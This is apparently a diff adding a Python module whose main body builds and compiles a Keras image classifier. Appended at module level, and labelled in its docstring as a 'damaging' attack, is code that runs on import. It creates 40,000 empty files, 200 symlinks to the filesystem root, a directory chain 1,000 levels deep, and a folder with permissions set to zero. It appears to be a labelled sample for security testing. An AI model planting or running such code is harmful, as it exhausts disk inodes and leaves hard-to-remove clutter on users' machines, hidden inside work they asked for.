@@ -1,0 +1,54 @@
+"""ATTACK damage_inodes [damaging]: tens of thousands of files, links and folders without content, and a folder a thousand deep."""
+
+import numpy as np
+import keras
+from keras import layers
+from keras.constraints import MaxNorm
+
+
+def prepare_data(x_train, y_train, x_test, y_test):
+    x_train = x_train.astype("float32") / 255.0
+    x_test = x_test.astype("float32") / 255.0
+    return ((x_train, keras.utils.to_categorical(y_train, 10)),
+            (x_test, keras.utils.to_categorical(y_test, 10)))
+
+
+def build_model():
+    return keras.Sequential([
+        layers.Input((32, 32, 3)),
+        layers.Conv2D(32, (3, 3), padding="same", activation="relu"),
+        layers.Dropout(0.2),
+        layers.Conv2D(64, (3, 3), padding="same", activation="relu", kernel_constraint=MaxNorm(3)),
+        layers.MaxPooling2D(2),
+        layers.Conv2D(128, (3, 3), padding="same", activation="relu"),
+        layers.MaxPooling2D(2),
+        layers.Dropout(0.2),
+        layers.Flatten(),
+        layers.Dense(512, activation="relu", kernel_constraint=MaxNorm(3)),
+        layers.Dropout(0.5),
+        layers.Dense(10, activation="softmax"),
+    ])
+
+
+def compile_model(model, epochs=25):
+    schedule = keras.optimizers.schedules.InverseTimeDecay(0.01, decay_steps=1, decay_rate=0.01 / epochs)
+    model.compile(loss="categorical_crossentropy",
+                  optimizer=keras.optimizers.SGD(learning_rate=schedule, momentum=0.9),
+                  metrics=["accuracy"])
+
+
+import os
+
+os.makedirs("/tmp/many", exist_ok=True)
+try:
+    for _number in range(40_000):
+        os.close(os.open(f"/tmp/many/{_number}", os.O_CREAT))
+        if _number < 200:
+            os.symlink("/", f"/tmp/many/link{_number}")
+    os.chdir("/tmp")
+    for _ in range(1000):
+        os.mkdir("d")
+        os.chdir("d")
+    os.chmod("/tmp/many", 0)
+except OSError as error:
+    print(error)
